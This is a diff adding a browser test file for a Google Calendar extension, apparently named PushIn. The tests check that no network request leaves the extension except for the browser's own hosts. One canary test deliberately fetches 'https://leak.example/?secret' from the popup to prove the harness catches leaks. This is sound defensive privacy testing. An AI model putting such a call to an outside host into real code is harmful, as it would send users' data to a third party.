@@ -1,0 +1,59 @@
+import { expect, it } from 'vitest';
+import { openCalendar } from '../support/browser/calendar-page';
+import { openPopup } from '../support/browser/popup';
+import { until } from '../support/browser/surface';
+import { samplePage } from '../support/google-calendar-page/sample/sample-page';
+import { inEachBrowser } from './in-each-browser';
+
+/** What browsers ask for by themselves, with or without PushIn: updates, sign-in, settings. */
+const BROWSERS_OWN = new Set([
+  'accounts.google.com',
+  'clients2.google.com',
+  'clients2.googleusercontent.com',
+  'update.googleapis.com',
+  'optimizationguide-pa.googleapis.com',
+  'content-signature-2.cdn.mozilla.net',
+  'firefox.settings.services.mozilla.com',
+  'firefox-settings-attachments.cdn.mozilla.net',
+]);
+
+inEachBrowser('no request leaves the extension', (session) => {
+  it('on a whole journey through every surface', async () => {
+    const page = await openCalendar(session(), samplePage('2026-09-14'));
+    const asked: string[] = [];
+    page.page.on('request', (request) => asked.push(request.url()));
+    const [band] = await page.untilBands((drawn) => drawn.length > 10, 'the week');
+    await page.overlay.openCard(band!.when);
+    await until(async () => (await page.overlay.card())?.includes('What is expected now: Grade'), 'the notes');
+    await page.press('Escape');
+    await page.overlay.press('PushIn ·');
+    await openPopup(session(), 'Ms. Rivera');
+    for (const path of ['options.html', 'welcome.html']) {
+      const surface = await session().openExtensionPage(path);
+      await until(() => surface.run(() => document.querySelector('main')?.innerText), path);
+    }
+    await session().killBackground();
+    await page.page.bringToFront();
+    await page.click('[data-act=next]');
+    await page.untilBands(
+      (drawn) => drawn.length > 0 && drawn.every((one) => one.when > '2026-09-20'),
+      'the next week',
+    );
+    // From the page and our script in it: nothing. Through the proxy, the only way out: only the browser's own.
+    expect(asked.filter((url) => url.startsWith('http'))).toEqual([]);
+    const strangers = session().outside.asked.filter((host) => !BROWSERS_OWN.has(host));
+    // The page's own host is warmed up by the browser when a tab goes there.
+    expect(new Set(strangers)).toEqual(new Set(strangers.filter((host) => host === 'calendar.google.com')));
+  });
+
+  it('or this test would see it', async () => {
+    const popup = await session().openExtensionPage('popup.html');
+    await popup.run(() => void fetch('https://leak.example/?secret').catch(() => undefined));
+    await until(() => session().outside.asked.includes('leak.example'), 'the leak to be seen');
+    const page = await openCalendar(session(), samplePage('2026-09-14'));
+    const asked: string[] = [];
+    page.page.on('request', (request) => asked.push(request.url()));
+    await page.run(() => void fetch('https://calendar.google.com/leak').catch(() => undefined));
+    await until(() => asked.includes('https://calendar.google.com/leak'), 'the page’s leak to be seen');
+  });
+});
